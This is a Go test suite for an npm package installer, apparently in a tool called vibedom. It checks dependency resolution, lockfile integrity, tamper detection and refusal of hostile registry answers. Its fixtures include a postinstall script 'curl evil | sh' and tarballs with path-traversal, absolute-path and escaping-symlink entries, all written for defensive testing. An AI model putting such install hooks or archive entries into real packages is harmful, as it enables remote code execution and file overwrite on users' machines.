package agents

import (
	"archive/tar"
	"context"
	"crypto/sha512"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// npmPkg is one version of a package on the test registry.
type npmPkg struct {
	name, version string
	deps          map[string]string
	bin           any
	tgz           []byte
	integrity     string // overrides the tarball's
	scripts       map[string]string
}

// publishNPM serves every version of pkgs as packuments and tarballs.
func (r *registry) publishNPM(t *testing.T, pkgs ...npmPkg) {
	t.Helper()
	docs := map[string]map[string]any{}
	for _, p := range pkgs {
		if p.tgz == nil {
			p.tgz = tarball(t,
				entry{name: "package/package.json", body: `{"name":"` + p.name + `"}`},
				entry{name: "package/index.js", body: "module.exports = '" + p.name + "@" + p.version + "'\n"},
				entry{name: "package/cli.js", body: "#!/usr/bin/env node\n", mode: 0o755},
			)
		}
		sum := sha512.Sum512(p.tgz)
		integ := sri(sum[:])
		if p.integrity != "" {
			integ = p.integrity
		}
		tp := "/" + p.name + "/-/" + TarballName(Pin{Package: p.name, Version: p.version})
		if docs[p.name] == nil {
			docs[p.name] = map[string]any{}
		}
		v := map[string]any{"name": p.name, "version": p.version, "dependencies": p.deps,
			"dist": map[string]string{"integrity": integ, "tarball": r.URL + tp}}
		if p.bin != nil {
			v["bin"] = p.bin
		}
		if p.scripts != nil {
			v["scripts"] = p.scripts
		}
		docs[p.name][p.version] = v
		r.mu.Lock()
		r.files[tp] = p.tgz
		r.mu.Unlock()
	}
	for n, vs := range docs {
		b, _ := json.Marshal(map[string]any{"name": n, "versions": vs})
		r.mu.Lock()
		r.docs["/"+strings.ReplaceAll(n, "/", "%2F")] = string(b)
		r.mu.Unlock()
	}
}

// treeRegistry: the agent needs a@^1 and b@~2.1; b needs a@^2, which
// cannot be hoisted over the agent's a@1 and nests under b.
func treeRegistry(t *testing.T) *registry {
	r := newRegistry(t)
	r.publishNPM(t,
		npmPkg{name: "@acme/agent", version: "1.0.0", deps: map[string]string{"a": "^1.0.0", "b": "~2.1.0"}, bin: map[string]string{"agent": "./cli.js"}},
		npmPkg{name: "a", version: "1.0.0"}, npmPkg{name: "a", version: "1.4.2"}, npmPkg{name: "a", version: "2.0.0"},
		npmPkg{name: "a", version: "2.3.0"}, npmPkg{name: "a", version: "3.0.0-beta.1"},
		npmPkg{name: "b", version: "2.1.0"}, npmPkg{name: "b", version: "2.1.7", deps: map[string]string{"a": ">=2 <3"}, scripts: map[string]string{"postinstall": "curl evil | sh"}},
		npmPkg{name: "b", version: "2.2.0"},
	)
	return r
}

func TestNPMInstall(t *testing.T) {
	r := treeRegistry(t)
	home := t.TempDir()
	o := Options{Home: home, Registry: r.URL}
	spec, err := ParseNPMSpec("npm:@acme/agent@1.0.0", true)
	if err != nil {
		t.Fatal(err)
	}
	res, err := InstallNPM(context.Background(), o, "", spec, "")
	if err != nil {
		t.Fatal(err)
	}
	if !res.Fresh || res.Runtime != RuntimeNode || res.Binary != "package/node_modules/@acme/agent/cli.js" {
		t.Fatalf("result %+v", res.Manifest)
	}
	var lock NPMLock
	b, _ := os.ReadFile(filepath.Join(res.Dir, LockFile))
	if err := json.Unmarshal(b, &lock); err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, p := range lock.Packages {
		got[p.Path] = p.Version
		if p.Files == "" || !strings.HasPrefix(p.Integrity, "sha512-") {
			t.Errorf("lock entry %+v", p)
		}
		if p.Name == "b" && !p.InstallScript {
			t.Errorf("b's postinstall not recorded")
		}
	}
	want := map[string]string{"node_modules/@acme/agent": "1.0.0", "node_modules/a": "1.4.2", "node_modules/b": "2.1.7", "node_modules/b/node_modules/a": "2.3.0"}
	if len(got) != len(want) {
		t.Fatalf("tree %v, want %v", got, want)
	}
	for k, v := range want {
		if got[k] != v {
			t.Fatalf("tree %v, want %v", got, want)
		}
	}
	idx, err := os.ReadFile(filepath.Join(res.Dir, "package/node_modules/b/node_modules/a/index.js"))
	if err != nil || !strings.Contains(string(idx), "a@2.3.0") {
		t.Fatalf("nested a: %q %v", idx, err)
	}
	if st, _ := os.Stat(filepath.Join(res.Dir, "package/node_modules/a/index.js")); st.Mode().Perm() != 0o444 {
		t.Errorf("mode %v, want read-only", st.Mode())
	}
	i, err := FindNPM(home, "npm:@acme/agent", "")
	if err != nil {
		t.Fatal(err)
	}
	if err := VerifyNPM(i); err != nil {
		t.Fatal(err)
	}
	// Second install: verified, no network.
	n := len(r.requests)
	if res2, err := InstallNPM(context.Background(), o, "", spec, ""); err != nil || res2.Fresh || len(r.requests) != n {
		t.Fatalf("second install: fresh %v, err %v, %d requests", res2.Fresh, err, len(r.requests)-n)
	}
}

// TestNPMTamperAtRun: a changed file of any package, a changed lockfile,
// or a missing lockfile is refused by VerifyNPM (which run calls).
func TestNPMTamperAtRun(t *testing.T) {
	for _, tc := range []struct {
		name string
		do   func(dir string) error
	}{
		{"file of a nested package", func(d string) error {
			return os.WriteFile(filepath.Join(d, "package/node_modules/b/node_modules/a/index.js"), []byte("evil()"), 0o644)
		}},
		{"added file", func(d string) error {
			return os.WriteFile(filepath.Join(d, "package/node_modules/a/evil.js"), []byte("evil()"), 0o644)
		}},
		{"lockfile", func(d string) error {
			p := filepath.Join(d, LockFile)
			b, _ := os.ReadFile(p)
			return os.WriteFile(p, []byte(strings.Replace(string(b), "1.4.2", "1.4.3", 1)), 0o644)
		}},
		{"lockfile gone", func(d string) error { return os.Remove(filepath.Join(d, LockFile)) }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := treeRegistry(t)
			home := t.TempDir()
			spec, _ := ParseNPMSpec("npm:@acme/agent@1.0.0", true)
			res, err := InstallNPM(context.Background(), Options{Home: home, Registry: r.URL}, "", spec, "")
			if err != nil {
				t.Fatal(err)
			}
			filepath.WalkDir(res.Dir, func(p string, d os.DirEntry, err error) error {
				if d.IsDir() {
					os.Chmod(p, 0o755)
				} else {
					os.Chmod(p, 0o644)
				}
				return nil
			})
			if err := tc.do(res.Dir); err != nil {
				t.Fatal(err)
			}
			i, err := FindNPM(home, "npm:@acme/agent", "1.0.0")
			if err == nil {
				err = VerifyNPM(i)
			}
			if err == nil || strings.Contains(err.Error(), "\n") || !strings.Contains(err.Error(), "vibedom init --agents npm:@acme/agent@1.0.0") {
				t.Fatalf("tampered %s: %v", tc.name, err)
			}
		})
	}
}

// TestNPMHostile: bad registry answers each stop the install with one
// line and leave no agent directory.
func TestNPMHostile(t *testing.T) {
	good := func(t *testing.T) []byte {
		return tarball(t, entry{name: "package/cli.js", body: "x", mode: 0o755})
	}
	for _, tc := range []struct {
		name string
		pkgs func(t *testing.T, r *registry) []npmPkg
		max  int64
		want string
	}{
		{"integrity mismatch", func(t *testing.T, r *registry) []npmPkg {
			return []npmPkg{{name: "ag", version: "1.0.0", bin: "cli.js", deps: map[string]string{"d": "1"}},
				{name: "d", version: "1.0.0", integrity: "sha512-" + strings.Repeat("A", 86) + "=="}}
		}, 0, "integrity mismatch"},
		{"sha1 only", func(t *testing.T, r *registry) []npmPkg {
			return []npmPkg{{name: "ag", version: "1.0.0", bin: "cli.js", integrity: "sha1-AAAA"}}
		}, 0, "no sha512 integrity"},
		{"dotdot", func(t *testing.T, r *registry) []npmPkg {
			return []npmPkg{{name: "ag", version: "1.0.0", bin: "cli.js", tgz: tarball(t, entry{name: "package/cli.js", body: "x", mode: 0o755}, entry{name: "package/../../evil", body: "x"})}}
		}, 0, "leaves the package"},
		{"absolute", func(t *testing.T, r *registry) []npmPkg {
			return []npmPkg{{name: "ag", version: "1.0.0", bin: "cli.js", tgz: tarball(t, entry{name: "/etc/evil", body: "x"})}}
		}, 0, "absolute"},
		{"symlink out", func(t *testing.T, r *registry) []npmPkg {
			return []npmPkg{{name: "ag", version: "1.0.0", bin: "cli.js", deps: map[string]string{"d": "1"}},
				{name: "d", version: "1.0.0", tgz: tarball(t, entry{name: "package/x", typ: tar.TypeSymlink, linkname: "../../../.."})}}
		}, 0, "outside the package"},
		{"device", func(t *testing.T, r *registry) []npmPkg {
			return []npmPkg{{name: "ag", version: "1.0.0", bin: "cli.js", tgz: tarball(t, entry{name: "package/cli.js", body: "x", mode: 0o755}, entry{name: "package/dev", typ: tar.TypeChar})}}
		}, 0, "special file"},
		{"huge tarball", func(t *testing.T, r *registry) []npmPkg {
			return []npmPkg{{name: "ag", version: "1.0.0", bin: "cli.js", tgz: tarball(t, entry{name: "package/cli.js", size: 1 << 20, mode: 0o755})}}
		}, 200, "over vibedom's"},
		{"unpacks past the bound", func(t *testing.T, r *registry) []npmPkg {
			return []npmPkg{{name: "ag", version: "1.0.0", bin: "cli.js", tgz: tarball(t, entry{name: "package/cli.js", size: 3 << 20, mode: 0o755})}}
		}, -1, "unpacked"},
		{"bin outside", func(t *testing.T, r *registry) []npmPkg {
			return []npmPkg{{name: "ag", version: "1.0.0", bin: "../../x.js"}}
		}, 0, "not a path inside the package"},
		{"bad dependency name", func(t *testing.T, r *registry) []npmPkg {
			return []npmPkg{{name: "ag", version: "1.0.0", bin: "cli.js", deps: map[string]string{"../evil": "1"}}}
		}, 0, "not an npm package name"},
		{"git dependency", func(t *testing.T, r *registry) []npmPkg {
			return []npmPkg{{name: "ag", version: "1.0.0", bin: "cli.js", deps: map[string]string{"d": "github:evil/d"}}}
		}, 0, "not a semver range"},
		{"foreign tarball host", func(t *testing.T, r *registry) []npmPkg {
			return nil
		}, 0, "not on the registry's host"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := newRegistry(t)
			pkgs := tc.pkgs(t, r)
			for i := range pkgs {
				if pkgs[i].tgz == nil && pkgs[i].name == "ag" {
					pkgs[i].tgz = good(t)
				}
			}
			if pkgs == nil {
				pkgs = []npmPkg{{name: "ag", version: "1.0.0", bin: "cli.js", tgz: good(t)}}
				r.publishNPM(t, pkgs...)
				r.mu.Lock()
				r.docs["/ag"] = strings.ReplaceAll(r.docs["/ag"], r.URL, "http://192.0.2.1:1")
				r.mu.Unlock()
			} else {
				r.publishNPM(t, pkgs...)
			}
			o := Options{Home: t.TempDir(), Registry: r.URL}
			if tc.max < 0 {
				o.MaxUnpacked = 1 << 20
			}
			if tc.max > 0 {
				old := MaxNPMTarball
				MaxNPMTarball = tc.max
				t.Cleanup(func() { MaxNPMTarball = old })
			}
			home := o.Home
			_, err := InstallNPM(context.Background(), o, "", NPMSpec{Name: "ag", Version: "1.0.0"}, "")
			if err == nil || !strings.Contains(err.Error(), tc.want) || strings.Contains(err.Error(), "\n") {
				t.Fatalf("err %v, want %q", err, tc.want)
			}
			ents, _ := os.ReadDir(AgentsDir(home))
			for _, e := range ents {
				if e.Name() != lockFile {
					t.Fatalf("left behind: %s", e.Name())
				}
			}
		})
	}
}

func TestNPMPinnedRoot(t *testing.T) {
	r := treeRegistry(t)
	_, err := InstallNPM(context.Background(), Options{Home: t.TempDir(), Registry: r.URL}, "gemini",
		NPMSpec{Name: "@acme/agent", Version: "1.0.0"}, "sha512-"+strings.Repeat("B", 86)+"==")
	if !errors.Is(err, ErrIntegrity) {
		t.Fatalf("err %v, want an integrity mismatch", err)
	}
}

func TestParseNPMSpec(t *testing.T) {
	for _, s := range []string{"npm:@google/gemini-cli@0.61.0", "npm:left-pad@1.3.0", "npm:a@1.0.0-rc.1"} {
		if _, err := ParseNPMSpec(s, true); err != nil {
			t.Errorf("%s: %v", s, err)
		}
	}
	if sp, err := ParseNPMSpec("npm:@google/gemini-cli", false); err != nil || sp.Name != "@google/gemini-cli" || sp.Version != "" {
		t.Errorf("no version: %+v %v", sp, err)
	}
	for _, s := range []string{"npm:@google/gemini-cli", "npm:../x@1.0.0", "npm:@x/../y@1.0.0", "npm:A@1.0.0", "npm:x@^1.0.0",
		"npm:x@latest", "npm:.x@1.0.0", "npm:x/y@1.0.0", "npm:node_modules@1.0.0", "npm:x@", "gemini", "npm:x y@1.0.0"} {
		if _, err := ParseNPMSpec(s, true); err == nil || strings.Contains(err.Error(), "\n") {
			t.Errorf("%s: accepted (%v)", s, err)
		}
	}
}

func TestSemverRanges(t *testing.T) {
	for _, tc := range []struct {
		rng  string
		yes  []string
		none []string
	}{
		{"^1.2.3", []string{"1.2.3", "1.9.0"}, []string{"2.0.0", "1.2.2", "2.0.0-0", "1.3.0-beta"}},
		{"^0.2.3", []string{"0.2.9"}, []string{"0.3.0"}},
		{"^0.0.3", []string{"0.0.3"}, []string{"0.0.4"}},
		{"~1.2", []string{"1.2.0", "1.2.9"}, []string{"1.3.0"}},
		{"1.x", []string{"1.0.0", "1.99.0"}, []string{"2.0.0"}},
		{"*", []string{"0.0.1", "9.9.9"}, []string{"1.0.0-rc.1"}},
		{"", []string{"1.0.0"}, nil},
		{">=1.0.0 <2", []string{"1.5.0"}, []string{"2.0.0"}},
		{"1.0.0 - 1.2", []string{"1.2.7"}, []string{"1.3.0"}},
		{"^1 || ^3", []string{"3.1.0", "1.0.0"}, []string{"2.0.0"}},
		{">= 2.1.0", []string{"2.1.0"}, []string{"2.0.9"}},
		{"^1.0.0-beta.2", []string{"1.0.0-beta.3", "1.0.0"}, []string{"1.0.0-beta.1"}},
		{"1.2.3", []string{"1.2.3"}, []string{"1.2.4"}},
	} {
		r, ok := parseRange(tc.rng)
		if !ok {
			t.Errorf("%q: not parsed", tc.rng)
			continue
		}
		for _, v := range tc.yes {
			if sv, _ := parseSemver(v); !r.match(sv) {
				t.Errorf("%q should match %s", tc.rng, v)
			}
		}
		for _, v := range tc.none {
			if sv, _ := parseSemver(v); r.match(sv) {
				t.Errorf("%q should not match %s", tc.rng, v)
			}
		}
	}
	for _, bad := range []string{"latest", "github:a/b", "file:../x", "npm:x@1", "http://x"} {
		if _, ok := parseRange(bad); ok {
			t.Errorf("%q parsed", bad)
		}
	}
}

func TestNPMDirsDistinct(t *testing.T) {
	seen := map[string]string{}
	for _, a := range []string{"gemini", "npm:a-b", "npm:@a/b", "npm:@google/gemini-cli", "npm:google-gemini-cli"} {
		d := NPMDir(a, "1.0.0")
		if o, ok := seen[d]; ok {
			t.Errorf("%s and %s share %s", a, o, d)
		}
		seen[d] = a
	}
}

// TestNPMPackumentBudget: a registry answering a wide tree with large
// packuments (each under the one-packument bound) is stopped once the
// packuments read add up past vibedom's bound, not read on until the
// host's memory runs out.
func TestNPMPackumentBudget(t *testing.T) {
	r := newRegistry(t)
	deps := map[string]string{}
	pkgs := []npmPkg{}
	for i := range 20 {
		n := "d" + itoa(i)
		deps[n] = "^1.0.0"
		pkgs = append(pkgs, npmPkg{name: n, version: "1.0.0"})
	}
	pkgs = append(pkgs, npmPkg{name: "ag", version: "1.0.0", bin: "cli.js", deps: deps})
	r.publishNPM(t, pkgs...)
	old := maxPackuments
	maxPackuments = 4 << 10
	t.Cleanup(func() { maxPackuments = old })
	_, err := ResolveNPM(t.Context(), Options{Home: t.TempDir(), Registry: r.URL}, "", NPMSpec{Name: "ag", Version: "1.0.0"}, "")
	if err == nil || !strings.Contains(err.Error(), "packuments") || strings.Contains(err.Error(), "\n") {
		t.Fatalf("err %v, want one about the packuments' total", err)
	}
}

// TestNPMVersionKeyWhitespace: a packument version key that is a version
// only once trimmed ("1.0.0\n") is not picked: it would become a file
// name in the cache and a line break in the lock's messages.
func TestNPMVersionKeyWhitespace(t *testing.T) {
	r := newRegistry(t)
	r.publishNPM(t, npmPkg{name: "ag", version: "1.0.0", bin: "cli.js", deps: map[string]string{"d": "^1.0.0"}},
		npmPkg{name: "d", version: "1.0.0"}, npmPkg{name: "d", version: "1.9.0\n"})
	lock, err := ResolveNPM(t.Context(), Options{Home: t.TempDir(), Registry: r.URL}, "", NPMSpec{Name: "ag", Version: "1.0.0"}, "")
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range lock.Packages {
		if p.Name == "d" && p.Version != "1.0.0" {
			t.Errorf("picked d@%q, want 1.0.0", p.Version)
		}
	}
}
